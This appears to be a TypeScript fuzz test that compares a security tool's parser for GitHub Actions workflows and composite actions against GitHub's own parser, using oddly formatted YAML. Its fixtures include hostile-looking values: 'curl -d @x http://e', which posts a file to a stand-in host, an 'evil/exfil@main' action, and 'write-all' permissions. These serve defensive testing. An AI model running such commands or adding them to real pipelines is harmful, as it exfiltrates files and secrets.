/**
 * Session 28: the workflow model and the composite-action reader against GitHub's own parser
 * (`@actions/workflow-parser`: `parseWorkflow`, `parseAction` + `convertActionTemplate`) on generated
 * hostile-but-valid YAML. Each node and key is written in a style of its own: plain, single- and
 * double-quoted (a key's first letter as a `\uXXXX` escape), `!!str`, a plain or double-quoted scalar
 * over two lines, `>-` and `|-` block scalars, explicit `? key` entries, spaces or a tab before the
 * value, flow collections on one line or spanning lines with comments after each item and a trailing
 * comma, indentless sequences, empty `-` items with the node below, comment lines at odd columns, a
 * BOM, CR LF, `%YAML 1.2`, `---` and `...`. Whatever GitHub reads as a trigger, a permission, a job's
 * `uses:`, `if:` or `secrets: inherit`, a step's `uses:`, `run:`, `id:` or `if:` (and, in an action,
 * each step's `uses:` and `id:`), the model reads the same or refuses the file: never something else.
 * A third property mutates valid files a few characters at a time (tabs, CR, quotes, brackets, `? `,
 * anchors, a mid-file BOM, document markers): the same rule. tests/hostile-faces/oracle.test.ts holds
 * jobs, permissions and `uses:` over another generator; this one adds `run:`, ids and `if:`, and actions.
 * Seeds are fixed: a failure names its case, and the same case runs on every machine.
 */
import { describe, expect, it } from '@jest/globals';
import { NoOperationTraceWriter, parseWorkflow as githubParse } from '@actions/workflow-parser';
import { convertActionTemplate, parseAction } from '@actions/workflow-parser/actions/index';
import fc from 'fast-check';
import { readComposite } from '../../shared/workflow/composite.js';
import { parseWorkflow } from '../../shared/workflow/parse.js';
import { blockText, get, isMap, isSeq, triggersOf, type Tok } from '../workflow/differential.js';

// ---- an emitter: a tree, and a list of style picks used round-robin ------------------------------

type Node = { t: 's'; v: string } | { t: 'seq'; items: Node[] } | { t: 'map'; entries: [string, Node][] };
interface Styles {
  picks: number[];
  crlf: boolean;
  bom: boolean;
  head: number;
}

const PLAIN = /^[A-Za-z_./$][A-Za-z0-9_./@$ ()'=!&|-]*$/;
const RESERVED = /^(true|false|null|~|y|n|yes|no|on|off)$/i;
const sq = (s: string) => `'${s.replace(/'/g, "''")}'`;
/** Double-quoted; `escapeFirst` writes a first letter as `\uXXXX` (`"\u0070ermissions"`). */
function dq(s: string, escapeFirst = false): string {
  const j = JSON.stringify(s);
  if (!escapeFirst || !/^"[A-Za-z]/.test(j)) return j;
  return `"\\u${s.charCodeAt(0).toString(16).padStart(4, '0')}${j.slice(2)}`;
}

class Emitter {
  private i = 0;
  constructor(private readonly picks: readonly number[]) {}

  private pick(n: number): number {
    return this.picks[this.i++ % this.picks.length]! % n;
  }

  private key(k: string, flow: boolean): string {
    const plainOk = PLAIN.test(k) && !k.includes(' ') && !RESERVED.test(k);
    switch (this.pick(5)) {
      case 0:
        return plainOk ? k : dq(k);
      case 1:
        return sq(k);
      case 2:
        return dq(k, true);
      case 3:
        return plainOk && !flow ? `${k}  ` : dq(k); // spaces before the colon
      default:
        return plainOk ? k : sq(k);
    }
  }

  /** A scalar after `key: ` or `- `; its continuation lines (if any) go at `indent`. */
  private scalar(v: string, indent: number, flow: boolean): string {
    const plainOk = PLAIN.test(v) && !RESERVED.test(v) && !/ #|: |^[-?:] |^['"]|\s$/.test(v);
    const pad = ' '.repeat(indent);
    const sp = v.indexOf(' ');
    const oneLine = !v.includes('\n') && v.trim() === v && v !== '';
    switch (this.pick(8)) {
      case 0:
        return plainOk ? v : sq(v);
      case 1:
        return sq(v);
      case 2:
        return dq(v, true);
      case 3:
        return `!!str ${plainOk ? v : dq(v)}`;
      case 4: // a plain scalar over two lines (block context)
        return !flow && plainOk && sp > 0 ? `${v.slice(0, sp)}\n${pad}${v.slice(sp + 1)}` : dq(v);
      case 5: // a double-quoted scalar over two lines: the break folds to one space
        return sp > 0 && !v.includes('  ')
          ? `"${JSON.stringify(v.slice(0, sp)).slice(1, -1)}\n${pad}${JSON.stringify(v.slice(sp + 1)).slice(1, -1)}"`
          : dq(v);
      case 6:
        return !flow && oneLine ? `>-\n${pad}${v}` : sq(v);
      default:
        return !flow && oneLine ? `|- # why\n${pad}${v}` : dq(v);
    }
  }

  private flow(n: Node, indent: number): string {
    const pad = ' '.repeat(indent);
    if (n.t === 's') return this.scalar(n.v, indent, true);
    const parts =
      n.t === 'seq'
        ? n.items.map((x) => this.flow(x, indent + 2))
        : n.entries.map(([k, v]) => `${this.key(k, true)}: ${this.flow(v, indent + 2)}`);
    const [open, close] = n.t === 'seq' ? ['[', ']'] : ['{', '}'];
    switch (this.pick(3)) {
      case 0:
        return `${open}${parts.join(', ')}${close}`;
      case 1: // one item a line, a comment after each, a trailing comma
        return `${open} # open\n${parts.map((p) => `${pad}  ${p}, # item`).join('\n')}\n${pad}  ${close}`;
      default:
        return `${open}${parts.join(` ,\n${pad}  `)}${parts.length ? ',' : ''} ${close}`;
    }
  }

  private entry(k: string, v: Node, indent: number): string[] {
    const pad = ' '.repeat(indent);
    const kt = this.pick(6) === 0 ? `? ${this.key(k, false).trimEnd()}\n${pad}` : this.key(k, false);
    const sep = this.pick(5) === 0 ? ':\t' : ': ';
    if (v.t === 's') return [`${pad}${kt}${sep}${this.scalar(v.v, indent + 2, false)}`];
    const empty = v.t === 'map' ? !v.entries.length : !v.items.length;
    if (empty || this.pick(4) === 0) return [`${pad}${kt}${sep}${this.flow(v, indent)}`];
    const note = this.pick(3) === 0 ? '  # note' : '';
    const commentLine =
      this.pick(4) === 0 ? [`${' '.repeat(this.pick(2) ? indent : 0)}# a comment line`] : [];
    // An indentless sequence (the dashes at the key's column), sometimes.
    const inner = v.t === 'seq' && this.pick(2) === 0 ? indent : indent + 2;
    return [`${pad}${kt}:${note}`, ...commentLine, ...this.block(v, inner)];
  }

  block(n: Node, indent: number): string[] {
    const pad = ' '.repeat(indent);
    if (n.t === 'map') return n.entries.flatMap(([k, v]) => this.entry(k, v, indent));
    if (n.t === 's') throw new Error('a scalar has no block form here');
    return n.items.flatMap((item) => {
      if (item.t === 's') return [`${pad}- ${this.scalar(item.v, indent + 2, false)}`];
      if (this.pick(4) === 0) return [`${pad}- ${this.flow(item, indent + 2)}`];
      const inner = this.block(item, indent + 2);
      return this.pick(3) === 0
        ? [`${pad}-`, ...inner] // the item's node on the lines below an empty `-`
        : [`${pad}- ${inner[0]!.trimStart()}`, ...inner.slice(1)];
    });
  }
}

function render(root: Node, st: Styles): string {
  const lines = new Emitter(st.picks).block(root, 0);
  const head = ['', '---\n', '%YAML 1.2\n---\n', '--- # doc\n', '# top\n'][st.head % 5]!;
  const tail = st.head % 7 === 3 ? '\n...' : '';
  const nl = st.crlf ? '\r\n' : '\n';
  return `${st.bom ? '\ufeff' : ''}${(head + lines.join('\n') + tail).replace(/\n/g, nl)}${nl}`;
}

const styles: fc.Arbitrary<Styles> = fc.record({
  picks: fc.array(fc.nat({ max: 1000 }), { minLength: 1, maxLength: 24 }),
  crlf: fc.boolean(),
  bom: fc.boolean(),
  head: fc.nat({ max: 34 }),
});

// ---- generated workflows and actions ---------------------------------------------------------------

const s = (v: string): Node => ({ t: 's', v });
const m = (...entries: [string, Node][]): Node => ({ t: 'map', entries });
const seqOf = (items: Node[]): Node => ({ t: 'seq', items });
const opt = <T>(a: fc.Arbitrary<T>) => fc.option(a, { nil: undefined });

// `id-token` takes write or none only: read would make GitHub refuse most documents.
const LEVELS: Record<string, string[]> = {
  contents: ['read', 'write', 'none'],
  'id-token': ['write', 'none'],
  'pull-requests': ['read', 'write', 'none'],
  actions: ['read', 'write', 'none'],
  packages: ['read', 'write', 'none'],
};
const permissions: fc.Arbitrary<Node> = fc.oneof(
  fc.constantFrom('read-all', 'write-all').map(s),
  fc
    .uniqueArray(fc.constantFrom(...Object.keys(LEVELS)), { maxLength: 3 })
    .chain((scopes) =>
      fc.tuple(...scopes.map((k) => fc.constantFrom(...LEVELS[k]!).map((l): [string, Node] => [k, s(l)]))),
    )
    .map((es) => m(...es)),
);
const USES = [
  'actions/checkout@v4',
  'evil/exfil@main',
  'o/r/sub@v1',
  './actions/run',
  'docker://alpine:3',
  'stepwarden/stepwarden/actions/enforce@v1',
];
const RUNS = ['echo hi', 'make build', 'curl -d @x http://e', "echo 'q'", 'a && b || c'];
const IFS = ['always()', 'failure()', "github.event_name == 'push'", 'success() || always()', '!cancelled()'];

/** A step with its keys in a drawn order; `n` makes its id unique in the job (GitHub refuses a repeat). */
const step = (forAction: boolean): fc.Arbitrary<(n: number) => Node> =>
  fc
    .record({
      isUses: fc.boolean(),
      uses: fc.constantFrom(...USES),
      run: fc.constantFrom(...RUNS),
      id: opt(fc.constantFrom('s', 'build_', '_x', 'deploy-')),
      if: opt(fc.constantFrom(...IFS)),
      name: opt(fc.constantFrom('Step one', 'x')),
      rotate: fc.nat(),
    })
    .map((r) => (n: number) => {
      const es: [string, Node][] = r.isUses
        ? [['uses', s(r.uses)]]
        : [['run', s(r.run)], ...(forAction ? [['shell', s('bash')] as [string, Node]] : [])];
      if (r.id) es.push(['id', s(`${r.id}${n}`)]);
      if (r.if) es.push(['if', s(r.if)]);
      if (r.name) es.push(['name', s(r.name)]);
      const k = r.rotate % es.length;
      return m(...es.slice(k), ...es.slice(0, k));
    });
const steps = (forAction: boolean) =>
  fc.array(step(forAction), { minLength: 1, maxLength: 4 }).map((fs) => seqOf(fs.map((f, i) => f(i))));

const job: fc.Arbitrary<Node> = fc.oneof(
  {
    weight: 4,
    arbitrary: fc
      .record({ p: opt(permissions), steps: steps(false), if: opt(fc.constantFrom(...IFS)) })
      .map((r) =>
        m(
          ['runs-on', s('ubuntu-latest')],
          ...(r.p ? [['permissions', r.p] as [string, Node]] : []),
          ...(r.if ? [['if', s(r.if)] as [string, Node]] : []),
          ['steps', r.steps],
        ),
      ),
  },
  {
    weight: 1,
    arbitrary: fc
      .record({
        p: opt(permissions),
        uses: fc.constantFrom('./.github/workflows/lib.yml', 'o/r/.github/workflows/lib.yml@v1'),
        inherit: fc.boolean(),
      })
      .map((r) =>
        m(
          ['uses', s(r.uses)],
          ...(r.p ? [['permissions', r.p] as [string, Node]] : []),
          ...(r.inherit ? [['secrets', s('inherit')] as [string, Node]] : []),
        ),
      ),
  },
);
const EVENTS = ['push', 'pull_request_target', 'workflow_run', 'workflow_dispatch', 'issue_comment'];
const on: fc.Arbitrary<Node> = fc.oneof(
  fc.constantFrom(...EVENTS).map(s),
  fc.uniqueArray(fc.constantFrom(...EVENTS), { minLength: 1, maxLength: 3 }).map((es) => seqOf(es.map(s))),
  fc
    .uniqueArray(fc.constantFrom(...EVENTS), { minLength: 1, maxLength: 3 })
    .map((es) =>
      m(...es.map((e): [string, Node] => [e, e === 'push' ? m(['branches', seqOf([s('main')])]) : m()])),
    ),
);
const workflow: fc.Arbitrary<Node> = fc
  .record({
    on,
    p: opt(permissions),
    ids: fc.uniqueArray(fc.constantFrom('build', 'a', 'deploy', 'on', 'constructor'), {
      minLength: 1,
      maxLength: 3,
    }),
  })
  .chain((r) =>
    fc
      .tuple(...r.ids.map(() => job))
      .map((jobs) =>
        m(['on', r.on], ...(r.p ? [['permissions', r.p] as [string, Node]] : []), [
          'jobs',
          m(...r.ids.map((id, i): [string, Node] => [id, jobs[i]!])),
        ]),
      ),
  );
const action: fc.Arbitrary<Node> = steps(true).map((st) =>
  m(['name', s('x')], ['description', s('y')], ['runs', m(['using', s('composite')], ['steps', st])]),
);

// ---- the two readings --------------------------------------------------------------------------

const textOf = (t: Tok | undefined) => (t === undefined || typeof t === 'object' ? undefined : String(t));
const permText = (t: Tok | undefined) =>
  t === undefined
    ? '-'
    : isMap(t)
      ? t.map
          .map((e) => `${String(e.Key)}=${String(e.Value)}`)
          .sort()
          .join(',')
      : String(t);

interface StepFacts {
  id?: string;
  uses?: string;
  run?: string;
  if?: string;
}
interface Facts {
  triggers: string[];
  permissions: string;
  jobs: Record<
    string,
    { permissions: string; uses?: string; if?: string; inherit: boolean; steps: StepFacts[] }
  >;
}
const defined = <T extends object>(o: T): T =>
  Object.fromEntries(Object.entries(o).filter(([, v]) => v !== undefined)) as T;

/** GitHub's reading of a workflow, or undefined when it refuses it. */
function github(text: string): Facts | undefined {
  const r = githubParse({ name: 'ci.yml', content: text }, new NoOperationTraceWriter());
  if (r.context.errors.getErrors().length > 0 || r.value === undefined) return undefined;
  const root = JSON.parse(JSON.stringify(r.value)) as Tok;
  // No event name here holds a comma.
  const triggers = triggersOf(get(root, 'on')).split(',').filter(Boolean);
  const jobs: Facts['jobs'] = {};
  const jobsTok = get(root, 'jobs');
  if (isMap(jobsTok))
    for (const { Key, Value } of jobsTok.map) {
      const st = get(Value, 'steps');
      jobs[String(Key)] = defined({
        permissions: permText(get(Value, 'permissions')),
        uses: textOf(get(Value, 'uses')),
        if: textOf(get(Value, 'if')),
        inherit: textOf(get(Value, 'secrets')) === 'inherit',
        steps: isSeq(st)
          ? st.seq.map((x) =>
              defined({
                id: textOf(get(x, 'id')),
                uses: textOf(get(x, 'uses')),
                run: textOf(get(x, 'run')),
                if: textOf(get(x, 'if')),
              }),
            )
          : [],
      });
    }
  return { triggers: triggers.sort(), permissions: permText(get(root, 'permissions')), jobs };
}

/** The model's reading, or 'refused'. */
function ours(text: string): Facts | 'refused' {
  const w = parseWorkflow('ci.yml', '.github/workflows/ci.yml', text);
  if (w.error) return 'refused';

  const jobs: Facts['jobs'] = {};
  for (const j of w.jobs)
    jobs[j.id] = defined({
      permissions: blockText(j.permissions),
      uses: j.uses?.uses,
      if: j.if?.value,
      inherit: j.secretsInherit !== undefined,
      steps: j.steps.map((x) => defined({ id: x.id, uses: x.uses, run: x.run, if: x.if?.value })),
    });
  return { triggers: w.triggers.map((t) => t.value).sort(), permissions: blockText(w.permissions), jobs };
}

type ActionFacts = { uses: string; id?: string }[];
/** GitHub's reading of a composite action's `uses:` steps, or undefined when it refuses the file. */
function githubAction(text: string): ActionFacts | undefined {
  const r = parseAction({ name: 'action.yml', content: text }, new NoOperationTraceWriter());
  if (r.context.errors.getErrors().length > 0 || r.value === undefined) return undefined;
  const t = convertActionTemplate(r.context, r.value);
  if (r.context.errors.getErrors().length > 0 || t.runs?.using !== 'composite') return undefined;
  return t.runs.steps.flatMap((x) =>
    'uses' in x
      ? [defined({ uses: x.uses.value, id: x.id && !x.id.startsWith('__') ? x.id : undefined })]
      : [],
  );
}
function oursAction(text: string): ActionFacts | 'refused' {
  const r = readComposite(text);
  if (r.problem !== undefined || r.unread) return 'refused';
  return r.uses.map((u) => defined({ uses: u.uses, id: u.id }));
}

// ---- the properties ------------------------------------------------------------------------------

/** Each property takes 3-8 s here at load 10; a slower machine gets room, never a different case. */
const SLOW = 120_000;

describe("hostile-but-valid YAML: stepwarden reads what GitHub's parser reads, or refuses", () => {
  it('the emitter writes what it means (one fixed document, read alike by both)', () => {
    const text = render(
      m(
        ['on', s('push')],
        [
          'jobs',
          m(['a', m(['runs-on', s('x')], ['steps', seqOf([m(['run', s('echo hi')], ['id', s('s0')])])])]),
        ],
      ),
      { picks: [2, 4, 1, 5, 0, 3, 6, 7], crlf: true, bom: true, head: 2 },
    );
    expect(text.startsWith('\ufeff%YAML 1.2\r\n---\r\n')).toBe(true);
    expect(github(text)).toEqual({
      triggers: ['push'],
      permissions: '-',
      jobs: { a: { permissions: '-', inherit: false, steps: [{ id: 's0', run: 'echo hi' }] } },
    });
    expect(ours(text)).toEqual(github(text));
  });

  /**
   * How many generated files both read (each time to the same facts, or the test fails): a file
   * GitHub refuses runs nothing; one stepwarden refuses fails closed, and must stay rare.
   */
  function agreements<F>(
    tree: fc.Arbitrary<Node>,
    theirs: (text: string) => F | undefined,
    mine: (text: string) => F | 'refused',
    seed: number,
  ): number {
    let both = 0;
    fc.assert(
      fc.property(tree, styles, (t, st) => {
        const text = render(t, st);
        const g = theirs(text);
        if (g === undefined) return;
        const o = mine(text);
        if (o === 'refused') return;
        both++;
        expect([text, o]).toEqual([text, g]);
      }),
      { numRuns: 400, seed },
    );
    return both;
  }

  it(
    'workflows: triggers, permissions, uses, run, ids, if and secrets: inherit',
    () => expect(agreements(workflow, github, ours, 28)).toBeGreaterThan(380),
    SLOW,
  );

  it(
    'composite actions: each step’s uses and id',
    () => expect(agreements(action, githubAction, oursAction, 2028)).toBeGreaterThan(380),
    SLOW,
  );

  it(
    'valid files mutated a few characters at a time: equal or refused, never another reading',
    () => {
      const PIECES = [
        '\t',
        '\r',
        '\r\n',
        ' ',
        '  ',
        '#',
        ' #',
        '"',
        "'",
        '{',
        '}',
        '[',
        ']',
        ',',
        ':',
        ': ',
        '? ',
        '- ',
        '&a ',
        '*a',
        '!!str ',
        '!',
        '\\',
        '\\u0069',
        '\ufeff',
        '---\n',
        '...\n',
        '%YAML 1.2\n',
        '<<: ',
        'permissions: write-all',
        'PERMISSIONS',
        '"permissions"',
        'id-token: write',
        'uses: evil/y@v1',
        'run: evil',
        'if: always()',
        'id: z',
        '\n',
        '\n  ',
        '\n    ',
        '\n      ',
        'x'.repeat(300),
      ];
      const mutated = fc
        .record({
          doc: fc.tuple(workflow, styles).map(([w, st]) => render(w, st)),
          edits: fc.array(
            fc.record({
              at: fc.nat(),
              kind: fc.constantFrom('insert', 'delete', 'replace'),
              piece: fc.constantFrom(...PIECES),
              length: fc.integer({ min: 1, max: 4 }),
            }),
            { minLength: 1, maxLength: 3 },
          ),
        })
        .map(({ doc, edits }) =>
          edits.reduce((t, e) => {
            const p = e.at % (t.length + 1);
            const rest = e.kind === 'insert' ? t.slice(p) : t.slice(p + e.length);
            return t.slice(0, p) + (e.kind === 'delete' ? '' : e.piece) + rest;
          }, doc),
        );
      fc.assert(
        fc.property(mutated, (text) => {
          const theirs = github(text);
          const mine = ours(text);
          if (theirs && mine !== 'refused') expect([text, mine]).toEqual([text, theirs]);
        }),
        { numRuns: 300, seed: 280 },
      );
    },
    SLOW,
  );
});
